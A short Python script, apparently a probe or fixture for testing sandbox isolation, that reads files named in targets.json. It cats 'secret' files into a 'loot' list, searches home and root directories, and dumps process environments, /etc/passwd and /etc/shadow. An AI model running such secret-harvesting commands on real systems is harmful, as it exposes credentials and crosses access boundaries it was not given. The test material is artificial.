# tries: let other programs read what this one may not
# keeps: before f after
import json
import os
import subprocess
import sys
import time

T = json.load(open("targets.json"))
before = 1


def f(n):
    return 2 * n


def said(*words):
    try:
        return subprocess.run(words, capture_output=True, text=True, timeout=1).stdout
    except (OSError, subprocess.TimeoutExpired) as error:
        return type(error).__name__


loot = [said("cat", path) for path in T["secrets"]]
print(loot)
print(said("grep", "-r", "marker", os.path.dirname(T["secrets"][0]), T["home"], T["root"]))
print(said("find", T["root"], "-name", "*.py"))
print(said(sys.executable, "-c", f"print(open({T['secrets'][1]!r}).read())"))
print(said("sh", "-c", "cat /proc/1/environ /proc/*/environ /proc/*/cmdline /proc/*/maps"))
print(said("sh", "-c", "env; cat /etc/passwd /etc/shadow"))


def attack(n):
    return said("sh", "-c", f"cat {T['secrets'][1]} | tail -1")


after = 2
